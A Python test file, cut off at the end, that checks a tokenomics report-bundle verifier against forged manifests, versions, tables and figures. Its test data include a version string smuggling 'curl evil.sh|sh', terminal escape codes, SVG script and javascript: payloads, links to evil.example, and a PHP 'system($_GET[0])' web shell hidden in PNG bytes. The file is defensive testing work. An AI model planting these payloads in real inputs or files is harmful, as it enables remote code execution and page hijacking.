"""What a careful forger would try: manifests that read otherwise than they look, versions that
loosen the comparison, files that cost memory.

Nothing is put in place of rendering here: text is compared with text that was made anew. From equal
evidence it is made once.
"""

import base64
import contextlib
import copy as copies
import json
import re
import shutil
import struct
import sys
import zlib
from io import BytesIO
from pathlib import Path

import matplotlib
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from matplotlib.figure import Figure

import tokenomics
from bundles import (
    CREATED,
    OTHER,
    PROPOSAL,
    edit_plan,
    evidence_of,
    example,
    forged,
    manifest,
    put,
    put_file,
    redrawn,
    repacked,
    reseal,
)
from tokenomics.errors import InputError
from tokenomics.governance.bundle import crate
from tokenomics.governance.bundle.bundle import RUNS, is_bundle, make_manifest, write_bundle
from tokenomics.governance.bundle.crate import METADATA
from tokenomics.governance.bundle.make import GIVEN, propose, report
from tokenomics.governance.bundle.runs_table import parse_runs, runs_parquet
from tokenomics.governance.evidence.canonical import FORMAT
from tokenomics.governance.evidence.plan import from_plain
from tokenomics.governance.report.figures import STYLE, svg
from tokenomics.governance.report.render import render
from tokenomics.governance.verify import differences as texts
from tokenomics.governance.verify import drawings, numbers, pages
from tokenomics.governance.verify.reach import UNCHECKED
from tokenomics.governance.verify.redrawn import difference
from tokenomics.governance.verify.verify import verify

LIMITS = "figures/limits.svg"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
ONE = {"sample": 1e-9, "sample_seed": 1}


@pytest.fixture(scope="module")
def rendered():
    """What was rendered from evidence so far, with figures or without."""
    return {}


@pytest.fixture(autouse=True)
def equal_evidence_is_rendered_once(rendered, monkeypatch, forecasts_are_made_once):
    """It gives equal bytes, and figures take seconds. With a changed number it is another."""

    def once(evidence, figures):
        key = evidence.id, figures
        if key not in rendered:
            rendered[key] = render(evidence, figures)
        return rendered[key]

    monkeypatch.setattr(pages, "render", once)
    monkeypatch.setattr(numbers, "Evidence", evidence_of)


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(PROPOSAL, "on_chain", {"supply.burn_share": {"decimals": 18, "unit": "wei"}})
        yield example(tmp_path_factory.mktemp("bundle"))


@pytest.fixture(scope="module")
def ran(tmp_path_factory):
    """The bundle of a run's directory."""
    folder = tmp_path_factory.mktemp("run")
    tokenomics.run(policy="pid", days=4, runs=3, engine="ensemble").save(folder / "run")
    return report(folder / "run", out=folder / "bundle", created=CREATED).folder


@pytest.mark.slow
def test_a_bundle_without_figures_is_verified_and_neither_hides_some_nor_misses_them(
    made, tmp_path
):
    """The numbers are the same, and so is the identifier."""
    plain = propose(
        made[0] / GIVEN,
        out=tmp_path / "plain",
        workers=1,
        figures=False,
        created=CREATED,
        command="tokenomics propose example.yaml",
    ).folder
    told, other = manifest(plain), manifest(made[0])
    assert (told["id"], told["figures"], other["figures"]) == (other["id"], False, True)
    drawn = {name for name in other["files"] if name.startswith("figures/")}
    assert set(other["files"]) - set(told["files"]) == drawn and len(drawn) > 3
    assert "figures out" in (plain / "report.md").read_text()
    assert b"<img" not in (plain / "report.html").read_bytes()
    found = verify(plain, **ONE)
    assert found.status == "verified" and any("without figures" in note for note in found.notes)
    assert not any("without figures" in note for note in verify(made[0], **ONE).notes)
    put(plain, told, figures=True)
    assert {one.file for one in verify(plain, **ONE).findings} > drawn
    hidden = shutil.copytree(made[0], tmp_path / "hidden")
    put(hidden, other, figures=False)
    assert {one.file for one in verify(hidden, **ONE).findings} > drawn


def found_in(folder, **options):
    """Files with findings, and the findings' texts."""
    outcome = verify(folder, workers=1, **(options or ONE))
    assert outcome.status == ("differs" if outcome.findings else "verified"), outcome.lines()
    return {one.file for one in outcome.findings}, [str(one) for one in outcome.findings]


def versions(folder, **other):
    """As if other versions had made it."""
    told = manifest(folder)
    put(folder, told, dependencies=told["dependencies"] | other)


# the manifest itself

REWRITTEN = {
    "digits": lambda text: text.replace(b'"value": 0.5,', b'"value": 0.50000000000000000001,', 1),
    "spaces at the end": lambda text: text + b"\n" * 5000,
    "no indentation": lambda text: json.dumps(json.loads(text)).encode(),
    "escapes": lambda text: text.replace(b'"proposal"', rb'"\u0070roposal"', 1),
}


@pytest.mark.parametrize("how", REWRITTEN)
def test_a_manifest_that_is_not_as_it_was_written_is_found(copy, how):
    path = copy / "manifest.json"
    before = path.read_bytes()
    path.write_bytes(REWRITTEN[how](before))
    assert path.read_bytes() != before
    files, told = found_in(copy, id=json.loads(before)["id"], **ONE)
    assert files == {"manifest.json"}
    assert "not as this package writes" in told[0]


def test_a_key_that_stands_twice_or_is_endless_is_refused(copy):
    path = copy / "manifest.json"
    text = path.read_bytes()
    path.write_bytes(text.replace(b'"title":', b'"title": "Raise the burn",\n  "title":', 1))
    with pytest.raises(InputError, match="the key 'title' twice"):
        verify(copy)
    put(copy, json.loads(text), **{"y" * 1_000_000: 1})
    with pytest.raises(InputError, match="a key of more than 500 characters") as refused:
        verify(copy)
    assert len(str(refused.value)) < 1_000


@pytest.mark.parametrize("value", [True, 1.0, "1", None])
def test_a_format_is_a_whole_number(copy, value):
    put(copy, manifest(copy), format=value)
    with pytest.raises(InputError, match="format"):
        verify(copy)


def test_a_number_without_its_decimal_point_is_found(copy):
    edit_plan(
        copy, lambda plan: plan["cases"][0]["parameters"]["supply.total_supply"].update(value=10**9)
    )
    reseal(copy)
    files, told = found_in(copy)
    assert files >= {"manifest.json"}
    assert "its plan is not written as this package writes it: cases" in " ".join(told)


@pytest.mark.parametrize(
    "created", ["2026-99-99T99:99:99Z", "٢٠٢٦-01-02T03:04:05Z", "2026-02-30T00:00:00Z"]
)
def test_a_time_that_is_none_is_refused(copy, created):
    put(copy, manifest(copy), created=created)
    with pytest.raises(InputError, match="created"):
        verify(copy)


@pytest.mark.parametrize("version", ["1';curl evil.sh|sh;'", "1\x1b[2J", "1" * 41, ""])
def test_a_version_is_nothing_but_a_version(copy, version):
    put(copy, manifest(copy), tokenomics=version)
    reseal(copy)
    with pytest.raises(InputError, match="tokenomics: "):
        verify(copy)
    put(copy, manifest(copy), format=FORMAT + 1, id="\x9b31m" * 20)
    later = verify(copy)
    assert later.reasons[0].startswith(
        f"format {FORMAT + 1}, made by a tokenomics that does not say its version;"
    )
    assert later.id == "unknown"


@pytest.mark.parametrize("depth", [500, 950, 5_000, 100_000])
def test_data_nested_without_end_are_refused(copy, depth):
    text = (copy / "manifest.json").read_bytes()
    (copy / "manifest.json").write_bytes(
        text.replace(
            b'"statement": {', b'"statement": {"x": ' + b"[" * depth + b"]" * depth + b",", 1
        )
    )
    try:
        assert verify(copy, **ONE).status == "differs"
    except InputError as error:
        assert len(str(error)) < 1_000


def test_data_that_can_be_parsed_and_not_written_are_refused(copy, monkeypatch):
    deep = manifest(copy)
    for _ in range(100_000):
        deep["plan"] = {"plan": deep["plan"]}
    monkeypatch.setattr(
        sys.modules["tokenomics.governance.verify.verify"], "manifest_json", lambda *_: deep
    )
    with pytest.raises(InputError, match="not a plan"):
        verify(copy)


def test_groups_are_counted_before_they_are_parsed(copy):
    text = (copy / "manifest.json").read_bytes()
    (copy / "manifest.json").write_bytes(
        text.replace(b"{", b'{"x": [' + b"[]," * 2_000_000 + b"[]],", 1)
    )
    with pytest.raises(InputError, match="groups of values"):
        verify(copy)


def test_long_names_are_not_repeated(copy):
    edit_plan(copy, lambda plan: plan["metrics"].append("x" * 1_000_000))
    reseal(copy)
    with pytest.raises(InputError) as refused:
        verify(copy)
    assert len(str(refused.value)) < 1_000


def test_a_manifest_is_recognised_by_its_beginning(tmp_path, monkeypatch):
    monkeypatch.setattr(Path, "read_text", None)
    (tmp_path / "manifest.json").write_bytes(b'{"format": 1}' + b"\xff" * 1_000_000)
    assert is_bundle(tmp_path)
    (tmp_path / "manifest.json").write_bytes(b'{"task": 1}')
    assert not is_bundle(tmp_path)


# what the maker tells of platform and versions

NUMBERS = {
    "an integer of a contract in the text": (
        "report.md",
        b"300000000000000000",
        b"300290000000000000",
    ),
    "the same, with as few digits": ("report.md", b"300000000000000000", b"300200000000000000"),
    "an integer of a contract in a table": (
        "data/changes.csv",
        b"300000000000000000",
        b"300000000299999999",
    ),
    "a value of the plan": ("data/points.csv", b"0.3", b"0.3000000000001"),
    "a parameter": ("data/parameters.csv", b"0.5", b"0.5000000000001"),
}


@pytest.mark.parametrize("what", NUMBERS)
def test_another_platform_rounds_nothing_that_is_exact(made, tmp_path, what):
    name, old, new = NUMBERS[what]
    text = (made[0] / name).read_bytes()
    assert old in text
    files, _ = found_in(
        forged(made, tmp_path / "f", {name: text.replace(old, new, 1)}, platform=OTHER)
    )
    assert files == {name}


@pytest.mark.parametrize("number", [b"1e999", b"9" * 400])
def test_another_platform_makes_no_number_endless(made, tmp_path, number):
    table = (made[0] / "data/means.csv").read_bytes()
    old = table.split(b"\n")[1].split(b",")[3]
    report = (made[0] / "report.md").read_bytes()
    shown = re.search(rb"\| churn [^|]*\| ([0-9.]+) ", report)[1]
    changed = {
        "data/means.csv": table.replace(old, number, 1),
        "report.md": report.replace(shown, number, 1),
    }
    assert found_in(forged(made, tmp_path / "f", changed, platform=OTHER))[0] == set(changed)


def png(*parts, end=b""):
    whole = b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in parts
    )
    return drawings.PNG_START + whole + end


HEAD, LAST = (b"IHDR", bytes(13)), (b"IEND", b"")
UNSAFE = {
    "a script": ("limits.svg", SVG % b"<script>alert(1)</script>"),
    "a script under another name": (
        "limits.svg",
        b'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
    ),
    "an event": ("limits.svg", SVG % b'<g onclick="alert(1)"/>'),
    "HTML": ("limits.svg", SVG % b"<foreignObject><p>approved</p></foreignObject>"),
    "words": ("limits.svg", SVG % b"<text>APPROVED</text>"),
    "a link": ("limits.svg", SVG % b'<use xlink:href="https://evil.example/x.svg#a"/>'),
    "code as a link": ("limits.svg", SVG % b'<use href="javascript:alert(1)"/>'),
    "a style from elsewhere": (
        "limits.svg",
        SVG % b"<style>@import 'https://evil.example/x.css'</style>",
    ),
    "a picture from elsewhere": (
        "limits.svg",
        SVG % b'<g style="fill: url(https://evil.example/x)"/>',
    ),
    "an entity": ("limits.svg", b'<!DOCTYPE svg [<!ENTITY x "<script/>">]><svg>&x;</svg>'),
    "an instruction": ("limits.svg", b'<?xml-stylesheet href="https://evil.example/x.css"?><svg/>'),
    "another encoding": ("limits.svg", b'<?xml version="1.0" encoding="iso-8859-1"?><svg/>'),
    "no XML": ("limits.svg", b"<svg><g></svg>"),
    "a program as pixels": ("limits.png", b"\x89PNG not at all<?php system($_GET[0]) ?>"),
    "a program behind the pixels": ("limits.png", png(HEAD, LAST, end=b"<?php ?>")),
    "a program beside the pixels": ("limits.png", png(HEAD, (b"tEXt", b"<?php ?>"), LAST)),
    "pixels without an end": ("limits.png", png(HEAD)),
    "pixels cut off": ("limits.png", png(HEAD, LAST)[:-1]),
    "other check sums": ("limits.png", png(HEAD, LAST)[:-1] + b"x"),
}


@pytest.mark.parametrize("what", UNSAFE)
def test_a_figure_that_cannot_be_compared_is_at_least_a_figure(what):
    assert drawings.unsafe(*UNSAFE[what])
    assert drawings.unsafe("limits.png", png(HEAD, LAST)) is None
    assert (
        drawings.unsafe(
            "limits.svg", SVG % b'<!-- <script> --><use xlink:href="#a"/><g clip-path="url(#a)"/>'
        )
        is None
    )


@pytest.mark.parametrize("told", [{"platform": OTHER}, {"matplotlib": "3.0.0"}])
def test_figures_of_another_platform_or_version_are_no_scripts(made, tmp_path, told):
    evil = UNSAFE["a script"][1]
    page = (made[0] / "report.html").read_bytes()
    page = re.sub(
        rb'src="data:image/svg\+xml;base64,[^"]*"',
        b'src="data:image/svg+xml;base64,' + base64.b64encode(evil) + b'"',
        page,
    )
    own_figures = {
        f"figures/{path.name}": evil if path.suffix == ".svg" else b"\x89PNG<?php ?>"
        for path in (made[0] / "figures").iterdir()
    }
    folder = forged(made, tmp_path / "own", own_figures | {"report.html": page}, **told)
    assert found_in(folder)[0] == set(own_figures)  # the page's figures are those beside it
    folder = forged(made, tmp_path / "page", {"report.html": page}, **told)
    files, lines = found_in(folder)
    assert files == {"report.html"}
    assert "figure 1 is not figures/limits.svg" in lines[0]
    broken = re.sub(rb"base64,[^\"]{3}", b"base64,", page, count=1)
    assert found_in(forged(made, tmp_path / "broken", {"report.html": broken}, **told))[0] == {
        "report.html"
    }


def test_a_drawing_of_another_platform_is_compared_by_its_places(made, tmp_path):
    name = "figures/limits.svg"
    drawn = (made[0] / name).read_bytes()
    page = (made[0] / "report.html").read_bytes()

    def other(change, out):
        new = change(drawn)
        assert new != drawn
        both = {
            name: new,
            "report.html": page.replace(base64.b64encode(drawn), base64.b64encode(new)),
        }
        return forged(made, tmp_path / out, both, platform=OTHER)

    place = re.search(rb"M (\d+\.\d{5,})", drawn)[1]
    near, far = (f"{float(place) + d:.6f}".encode() for d in (1e-6, 1.0))
    clip = re.search(rb"\b[a-z][0-9a-f]{10}\b", drawn)[0]
    assert (
        found_in(
            other(lambda text: text.replace(place, near, 1).replace(clip, b"p0123456789"), "near")
        )[0]
        == set()
    )
    assert found_in(other(lambda text: text.replace(place, far, 1), "far"))[0] == {name}
    glyph = re.search(rb"DejaVuSans-(\d+)", drawn)[0]
    assert (
        name
        in found_in(
            other(
                lambda text: text.replace(b'href="#' + glyph, b'href="#DejaVuSans-99', 1), "glyph"
            )
        )[0]
    )


def test_a_drawing_of_a_sweep_over_two_parameters_is_sound(tmp_path):
    values = {"controller.pid.kp": [0.05, 0.1], "supply.burn_share": [0.3, 0.5]}
    tokenomics.sweep(
        {
            "parameters": values,
            "policies": ["pid"],
            "method": "grid",
            "runs": 2,
            "set": {"simulation.days": 4},
        },
        out=tmp_path / "s",
    )
    folder = report(tmp_path / "s", out=tmp_path / "b", created=CREATED).folder
    found = list((folder / "figures").iterdir())
    assert any(b"<image" in path.read_bytes() for path in found)
    assert [drawings.unsafe(path.name, path.read_bytes()) for path in found] == [None] * len(found)


def test_the_first_line_counts_what_cannot_be_compared(made, tmp_path):
    pixels = {
        f"figures/{one.name}": repacked(one.read_bytes())
        for one in sorted((made[0] / "figures").glob("*.png"))
    }
    found = verify(forged(made, tmp_path / "f", pixels, matplotlib="3.0.0"), workers=1, **ONE)
    assert found.lines()[0].startswith(
        f"verified but for {len(pixels)} files that cannot be compared: SHA-256 "
    )
    assert set(found.plain()["uncompared"]) == set(pixels)
    assert found.exit_status == 0


@pytest.mark.parametrize("told", [{"platform": OTHER}, {"matplotlib": "3.8.0"}])
def test_pixels_have_the_size_of_the_figure(made, tmp_path, told):
    one, two = (
        (made[0] / f"figures/{name}.png").read_bytes() for name in ("limits", "sensitivity")
    )
    files, lines = found_in(forged(made, tmp_path / "f", {"figures/limits.png": two}, **told))
    assert files == {"figures/limits.png"}
    assert (
        "pixels: recorded '{} x {}', computed '{} x {}'".format(
            *drawings.pixels(two), *drawings.pixels(one)
        )
        in lines[0]
    )


def shown(made, out, new, **told):
    """A bundle whose first figure is another, in its page as well."""
    old, page = (made[0] / LIMITS).read_bytes(), (made[0] / "report.html").read_bytes()
    assert new != old
    return forged(
        made,
        out,
        {LIMITS: new, "report.html": page.replace(base64.b64encode(old), base64.b64encode(new))},
        **told,
    )


def drawn_in_its_place(old):
    """A drawing of the same size that says what nobody computed."""
    width, height = (
        float(number) / 72.0
        for number in re.search(rb'viewBox="0 0 ([0-9.]+) ([0-9.]+)"', old).groups()
    )
    canvas = Figure(figsize=(width, height))
    canvas.text(0.1, 0.5, "ALL LIMITS HOLD 100 %")
    return svg(canvas)


def test_a_figure_of_another_matplotlib_is_compared_but_for_its_layout(made, tmp_path):
    old = (made[0] / LIMITS).read_bytes()
    told = {"matplotlib": "3.8.0"}
    found = verify(shown(made, tmp_path / "same", redrawn(old), **told), workers=1, **ONE)
    assert (found.status, set(found.uncompared)) == ("verified", {LIMITS, "report.html"}), (
        found.lines()
    )
    assert found.lines()[0].startswith("verified but for 2 files that cannot be compared: ")
    for out, changed in {
        "place": drawn_in_its_place(old),
        "letter": WORDS["another letter"](redrawn(old)),
    }.items():
        assert LIMITS in found_in(shown(made, tmp_path / out, changed, **told))[0]


def replaced(pattern, new):
    return lambda text: re.sub(pattern, new, text, count=1, flags=re.DOTALL)


def moved(share):
    """The first mark of data elsewhere, by a share of the width of its axes."""

    def change(text):
        left, right = (
            float(
                re.search(rb'<g id="patch_2">\s*<path d="M ([0-9.]+) [0-9.]+ \nL ([0-9.]+) ', text)[
                    i
                ]
            )
            for i in (1, 2)
        )
        mark = rb'(<g clip-path="[^"]*">\s*<use xlink:href="[^"]*" x=")([0-9.]+)'
        return re.sub(
            mark,
            lambda found: found[1] + b"%.6f" % (float(found[2]) + share * (right - left)),
            text,
            count=1,
        )

    return change


LETTER = rb'(<use xlink:href="#DejaVuSans-)x1"'
WORDS = {
    "another letter": replaced(LETTER, rb'\1x2"'),
    "a letter elsewhere": replaced(rb'( x=")([0-9]+)([0-9.]*"/>\s*</g>)', rb"\g<1>9\2\3"),
    "a letter that is not seen": replaced(LETTER, rb'\1x1" style="opacity: 0"'),
    "a letter with two targets": replaced(LETTER, rb'\1x1" href="#DejaVuSans-x2"'),
    "a letter above the line": replaced(LETTER, rb'\1x1" y="400"'),
    "two shapes for a letter": replaced(
        rb'(<path id="DejaVuSans-x1") d="', rb'\1 d="M 0 0"/>\1 d="'
    ),
    "a style among the letters": replaced(
        rb'<defs>(\s*<path id="DejaVuSans)', rb"<defs><style>#axes_1 {display: none}</style>\1"
    ),
    "another colour": replaced(rb"fill: #0072b2", b"fill: #d55e00"),
    "a part that is not seen": replaced(
        rb'<g id="line2d_16">', b'<g id="line2d_16" style="opacity: 0">'
    ),
    "a part less": replaced(rb'<g id="line2d_16">.*?</g>\s*</g>', b""),
    "a part more": replaced(rb"</svg>", b"<g/></svg>"),
    "a part within another": replaced(
        rb'(<g id="LineCollection_1">.*?)</g>(.*)</svg>', rb"\1\2</g></svg>"
    ),
    "a mark of data elsewhere": moved(0.02),
    "another remark": replaced(rb"<!-- current -->", b"<!-- audited -->"),
    "another size": replaced(rb'width="[0-9.]+pt"', b'width="50pt"'),
}


@pytest.mark.parametrize("what", WORDS)
def test_what_no_matplotlib_explains_is_a_difference(made, what):
    own = (made[0] / LIMITS).read_bytes()
    old = redrawn(own)
    assert difference(old, own) is None
    new = WORDS[what](old)
    assert new != old
    assert difference(new, own)


def test_a_mark_of_data_may_stand_elsewhere_by_less_than_a_hundredth_of_its_axes(made):
    own = (made[0] / LIMITS).read_bytes()
    assert difference(moved(0.005)(own), own) is None
    assert difference(moved(0.012)(own), own)


def test_a_glyph_of_two_letters_is_two_letters():
    def figure(*texts):
        with matplotlib.rc_context(STYLE):
            canvas = Figure()
            for number, text in enumerate(texts):
                canvas.text(0.0, 0.1 * number, text)
            return svg(canvas)

    drawn = figure("fit", "f", "i", "t")
    whole, *apart = re.findall(rb"<g transform[^>]*>(.*?)</g>", drawn, re.DOTALL)
    uses = [re.search(rb'<use xlink:href="([^"]*)"', one)[1] for one in apart]
    old = re.sub(rb"\s*<use [^>]*>", b"", whole) + b"".join(
        b'<use xlink:href="%s" x="%f"/>' % one for one in zip(uses, (0.0, 35.2, 63.0), strict=True)
    )
    assert difference(drawn.replace(whole, old), drawn) is None
    assert difference(figure("fat", "f", "i", "t"), drawn)


def test_metadata_of_another_rocrate_are_compared_by_what_they_say(made, copy, pages_are_made_once):
    versions(copy, rocrate="0.1.0")
    plain = json.loads((copy / METADATA).read_bytes())
    graph = plain["@graph"]

    def told(change):
        new = copies.deepcopy(plain)
        change({entity["@id"]: entity for entity in new["@graph"]}, new)
        put_file(copy, METADATA, json.dumps(new).encode())
        return verify(copy, workers=1, **ONE)

    same = told(lambda _, new: new["@graph"].reverse())
    assert same.status == "verified"
    assert any("compared by its entities" in note for note in same.notes)
    for change, what in [
        (lambda by, _: by["report.md"].update(sha256="0" * 64), "sha256 of report.md"),
        (lambda by, _: by["report.md"].update(contentSize="1"), "contentSize of report.md"),
        (lambda by, _: by["./"].update(name="Another"), "name of ./"),
        (lambda by, _: by["./"].update(license={"@id": "#x"}), "license of ./"),
        (lambda by, _: by["#author-1"].update(name="Another"), "name of #author-1"),
        (lambda by, _: by["#content-id"].update(value="0" * 64), "value of #content-id"),
        (
            lambda _, new: new["@graph"].append({"@id": "#audit", "name": "Passed"}),
            "#audit is not of this bundle",
        ),
        (lambda _, new: new["@graph"].append(graph[3]), "twice"),
        (lambda _, new: new.update({"@context": "https://evil.example"}), "another context"),
        (
            lambda _, new: new.update(
                {"@context": "https://w3id.org/ro/crate/1.2/context/../../evil"}
            ),
            "another context",
        ),
        (
            lambda _, new: new.update(
                {"@context": [new["@context"], {"license": "https://evil.example"}]}
            ),
            "another context",
        ),
        (
            lambda by, _: by[METADATA].update(conformsTo={"@id": "https://w3id.org/ro/crate/9.9"}),
            f"conformsTo of {METADATA}",
        ),
        (lambda by, _: by[METADATA].update({"@type": "Audit"}), f"@type of {METADATA}"),
        (lambda _, new: new.pop("@graph"), "no RO-Crate metadata"),
    ]:
        found = told(change)
        assert [str(one) for one in found.findings if one.file == METADATA and what in one.what], (
            what,
            found.lines(),
        )
    put_file(copy, METADATA, b"[" * 100_000)
    assert found_in(copy)[0] == {METADATA}
    assert crate.disagreements(b"{}", b"[]") != []


def table_with(made, change):
    table = pq.read_table(made[0] / RUNS)
    out = BytesIO()
    pq.write_table(change(table), out)
    return out.getvalue()


def as_units(table, unit):
    fields = [
        field.with_metadata({"unit": unit}) if field.name == "churn" else field
        for field in table.schema
    ]
    return table.cast(pa.schema(fields))


def test_a_table_of_another_pyarrow_has_the_same_columns_units_and_no_more(made, tmp_path):
    same = forged(
        made, tmp_path / "same", {RUNS: table_with(made, lambda table: table)}, pyarrow="1.0.0"
    )
    found = verify(same, workers=1, **ONE)
    assert found.status == "verified", found.lines()
    assert any("not byte by byte" in note for note in found.notes)
    for name, change in {
        "unit": lambda table: as_units(table, "% a day"),
        "more": lambda table: table.replace_schema_metadata({"audit": "passed"}),
        "type": lambda table: table.set_column(2, "run", table["run"].cast(pa.int32())),
    }.items():
        folder = forged(made, tmp_path / name, {RUNS: table_with(made, change)}, pyarrow="1.0.0")
        assert found_in(folder)[0] == {RUNS}, name


def test_bytes_that_no_column_of_the_table_has_are_found_whatever_pyarrow_is_named(made, tmp_path):
    table = (made[0] / RUNS).read_bytes()
    end = len(table) - 8 - struct.unpack_from("<I", table, len(table) - 8)[0]
    for name, version in (("same", {}), ("other", {"pyarrow": "1.0.0"})):
        files, told = found_in(
            forged(
                made, tmp_path / name, {RUNS: table[:end] + b"a message" + table[end:]}, **version
            )
        )
        assert files == {RUNS}
        assert ("9 bytes that belong to no column" in told[0]) == (name == "other")


# what costs memory or time


def test_a_table_is_bounded_before_it_is_unpacked(made, monkeypatch):
    _, plan, runs = made
    path = made[0] / RUNS
    rows = len(runs)
    for text, most in [("x" * 900_000, "900000 bytes of one run"), ("x" * 10_000, None)]:
        long = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([text]))
        number = pq.read_table(path).schema.get_field_index("error")
        content = table_with(
            made, lambda table, long=long, number=number: table.set_column(number, "error", long)
        )
        if most:
            with pytest.raises(InputError, match=most):
                parse_runs(content, plan, path)
        else:
            assert set(parse_runs(content, plan, path)["error"]) == {text}
            monkeypatch.setattr("tokenomics.results.checked_parquet.MOST_TEXT", 10_000 * rows - 1)
            with pytest.raises(InputError, match="bytes of one run"):
                parse_runs(content, plan, path)
    monkeypatch.setattr("tokenomics.results.checked_parquet.MOST_CELLS", rows)
    with pytest.raises(InputError, match="cells"):
        parse_runs(path.read_bytes(), plan, path)


def test_columns_are_numbers_and_text(made):
    path = made[0] / RUNS
    for name, values in {"churn": ["1.0"], "error": [1.0], "run": [[1]]}.items():
        number = pq.read_table(path).schema.get_field_index(name)
        content = table_with(
            made,
            lambda table, n=number, name=name, v=values: table.set_column(
                n, name, pa.array(v * len(table))
            ),
        )
        with pytest.raises(InputError, match=f"{name}: "):
            parse_runs(content, made[1], path)


@pytest.mark.parametrize("hidden", ["\ue000", "\u202e", "\x1b[2J"])
def test_an_error_is_visible_text(made, hidden):
    runs = made[2].copy()
    runs.loc[2, "error"] = f"a{hidden}b"
    with pytest.raises(InputError, match="without control characters"):
        parse_runs(runs_parquet(made[1], runs), made[1], made[0] / RUNS)


def test_a_run_fails_on_a_day_or_has_an_error(made):
    runs = made[2].copy()
    runs.loc[2, ["failed_day", "error"]] = [1.0, "x"]
    with pytest.raises(InputError, match="row 3 has both"):
        parse_runs(runs_parquet(made[1], runs), made[1], made[0] / RUNS)


def test_an_endless_file_is_not_split_into_lines(copy, monkeypatch):
    put_file(copy, "report.md", b"\n" * 3_000_000)
    monkeypatch.setattr(texts, "_one_number", None)
    found = texts.differing("report.md", b"\n" * 3_000_000, b"a")
    assert found.what == "3000000 bytes, where it should have 1"
    monkeypatch.undo()
    files, told = found_in(copy)
    assert files >= {"report.md"}
    assert any("3000000 bytes, where it should have" in line for line in told)


def of_runs(ran, out, runs, **settings):
    """The bundle of a run's directory with other settings, and numbers that nobody simulated."""
    plain = copies.deepcopy(manifest(ran)["plan"])
    days, step, delay = (settings.pop(name, None) for name in ("days", "step", "delay"))
    plain["points"][0]["runs"] = runs
    for path, value in {
        "simulation.days": days,
        "simulation.time_step": step,
        "oracle.delay": delay,
    }.items():
        if value is not None:
            plain["cases"][0]["parameters"][path]["value"] = value
    if delay is not None:
        plain["cases"][0]["parameters"]["oracle.enabled"]["value"] = True
    plan = from_plain(plain | settings)
    table = pd.DataFrame(
        {"case": 0, "point": 0, "run": range(runs), "failed_day": np.nan, "error": ""}
        | dict.fromkeys(plan.metrics, 0.0)
    )
    told = make_manifest(plan, table, created=CREATED, command="")
    return write_bundle(out, {RUNS: runs_parquet(plan, table)}, told)


def stop(*_, **__):
    raise AssertionError("nothing may be simulated")


def test_what_would_take_hours_is_said_and_not_begun(ran, tmp_path, monkeypatch):
    monkeypatch.setattr("tokenomics.governance.verify.numbers.simulate", stop)
    monkeypatch.setattr("tokenomics.governance.verify.recompute.simulate_rows", stop)
    with pytest.raises(
        InputError, match="365 steps a run"
    ):  # of the runs of a directory all are simulated at once
        verify(of_runs(ran, tmp_path / "many", 60_000, days=365.0), sample=1e-6)
    found = verify(of_runs(ran, tmp_path / "slow", 6_000, days=365.0, engine="cadcad"), sample=1e-6)
    assert (found.status, found.exit_status) == ("cannot be checked", 2)
    assert (
        "2190000 steps in all, of which 2000000 at most are simulated by cadcad" in found.reasons[0]
    )
    with pytest.raises(InputError, match=r"oracle.delay: 60 days in steps of 0.004 days"):
        verify(of_runs(ran, tmp_path / "delay", 2, days=0.04, step=0.004, delay=60))


def test_too_many_runs_are_sampled(made, copy, monkeypatch):
    monkeypatch.setattr("tokenomics.governance.verify.affordable.MOST_IN_ALL", 100)
    found = verify(copy, workers=1)
    assert (found.status, found.exit_status) == ("cannot be checked", 2)
    assert f"its {len(made[2])} runs have {12 * len(made[2])} steps in all" in found.reasons[0]
    share = re.search(r"--sample ([0-9.]+) takes", found.reasons[0])[1]
    assert verify(copy, sample=float(share)).status == "verified"


def test_a_sweep_with_an_impossible_point_is_verified(tmp_path):
    design = {
        "parameters": {"supply.burn_share": [0.95, 0.5]},
        "policies": ["pid"],
        "method": "grid",
        "runs": 2,
        "set": {"simulation.days": 4},
    }
    tokenomics.sweep(design | {"metrics": ["churn"]}, out=tmp_path / "sweep", workers=1)
    folder = report(tmp_path / "sweep", out=tmp_path / "bundle", created=CREATED).folder
    found = verify(folder, workers=1)
    assert found.status == "verified", found.lines()


# findings are kept, and no plan ends in a traceback


def test_an_unreadable_file_is_a_finding(copy, monkeypatch):
    opened = open

    def refuse(path, *rest, **more):
        if str(path).endswith("report.md"):
            raise PermissionError(13, "Permission denied")
        return opened(path, *rest, **more)

    monkeypatch.setattr("builtins.open", refuse)
    files, told = found_in(copy)
    assert files == {"report.md"}
    assert "cannot be read (Permission denied)" in told[0]


def test_a_file_that_vanishes_while_it_is_listed_is_an_input_error(copy, monkeypatch):
    class Gone:
        name = "report.md"

        def stat(self, **_):
            raise FileNotFoundError(2, "No such file or directory")

    monkeypatch.setattr("os.scandir", lambda _: contextlib.nullcontext(iter([Gone()])))
    with pytest.raises(InputError, match="cannot be read"):
        verify(copy)


def test_a_changed_proposal_that_is_none_is_a_finding_among_others(copy):
    put_file(copy, GIVEN, b"[no proposal", listed=False)
    put_file(copy, "data/means.csv", b"a,b\n", listed=False)
    files, told = found_in(copy)
    assert files >= {GIVEN, "data/means.csv"}
    assert any("no proposal" in line for line in told)


def test_a_few_favourable_metrics_are_not_all_of_them(made, tmp_path):
    given = json.dumps({key: value for key, value in PROPOSAL.items() if key != "metrics"}).encode()
    files, told = found_in(forged(made, tmp_path / "f", {GIVEN: given}, platform=OTHER))
    assert files == {GIVEN}
    assert any(line.startswith(f"{GIVEN}: metrics is not what was simulated") for line in told)


STRANGE = {
    "an empty statement": lambda plan: plan.update(statement={}),
    "no proposed point": lambda plan: plan.update(
        points=[point | {"role": "current"} for point in plan["points"]]
    ),
    "a limit on nothing": lambda plan: plan["statement"].update(
        limits=[{"limit": "supply", "reason": ""}]
    ),
    "a contract's number of a name": lambda plan: plan["statement"].update(
        on_chain={"controller.type": {"decimals": 2, "unit": "x"}}
    ),
    "a watch on nothing": lambda plan: plan["statement"].update(
        watch=[{"metric": "nothing", "quantile": 7}]
    ),
    "a list for a text": lambda plan: plan["statement"].update(authors=[[]], license=3),
}


@pytest.mark.parametrize("how", STRANGE)
